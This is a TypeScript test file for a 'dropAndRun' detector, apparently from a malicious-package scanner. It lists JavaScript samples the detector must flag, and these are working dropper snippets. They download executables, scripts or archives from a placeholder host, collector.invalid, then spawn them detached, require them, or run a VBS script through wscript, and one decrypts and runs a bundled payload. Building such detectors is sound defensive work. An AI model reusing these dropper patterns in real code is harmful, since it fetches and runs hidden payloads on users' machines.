import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { dropAndRun } from "./index.ts";

testDetector(dropAndRun, {
  fires: {
    "a download in a temporary folder": [
      "strong",
      loaded(`const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
        const { spawn } = require("child_process");
        const target = path.join(os.tmpdir(), "update.exe");
        https.get("https://collector.invalid/update.exe", (answer) => {
          const out = fs.createWriteStream(target);
          answer.pipe(out);
          out.on("finish", () => out.close(() => spawn(target, [], { detached: true, stdio: "ignore" }).unref()));
        });`),
    ],
    "a module with a name made up while it runs": [
      "strong",
      installed(`const fs = require("fs"), path = require("path"), os = require("os"), https = require("https");
        const file = path.join(os.tmpdir(), "." + Math.random().toString(16).slice(2) + ".js");
        https.get("https://collector.invalid/stage.js", (answer) =>
          answer.pipe(fs.createWriteStream(file)).on("finish", () => { require(file); }));`),
    ],
    "a module out of an archive": [
      "strong",
      installed(`const fs = require("fs"), path = require("path"), { execSync } = require("child_process");
        (async () => {
          const folder = path.join(__dirname, ".peer");
          fs.writeFileSync(path.join(folder, "p.tgz"), Buffer.from(await (await fetch("https://collector.invalid/p")).arrayBuffer()));
          execSync("tar xzf p.tgz", { cwd: folder });
          require(path.join(folder, "package", "peer"));
        })();`),
    ],
    "what a call decodes": [
      "strong",
      loaded(`const fs = require("fs"), os = require("os"), path = require("path"), crypto = require("crypto");
        exports.run = (key) => {
          const cipher = crypto.createDecipheriv("aes-256-cbc", key, Buffer.alloc(16));
          const file = path.join(os.tmpdir(), "m.js");
          fs.writeFileSync(file, cipher.update(fs.readFileSync(__dirname + "/m.bin")));
          require("child_process").spawn("node", [file], { detached: true, stdio: "ignore" }).unref();
        };`),
    ],
    "a script in a temporary folder": [
      "strong",
      installed(`const fs = require("fs"), os = require("os");
        const script = os.tmpdir() + "/u.vbs";
        fs.writeFileSync(script, "' nothing");
        require("child_process").exec("wscript //b " + script);`),
    ],
  },
  silent: {
    "an archive beside modules of its own": installed(`const fs = require("fs"), path = require("path");
      (async () => {
        fs.writeFileSync(path.join(__dirname, "vendor", "p.tgz"), Buffer.from(await (await fetch("https://collector.invalid/p")).arrayBuffer()));
        require(path.join(__dirname, "lib", "log"));
      })();`),
    "a report that is written and a tool that is run": loaded(`const fs = require("fs");
      module.exports = () => { fs.writeFileSync("report.json", "{}"); require("child_process").execSync("git status"); };`),
  },
});
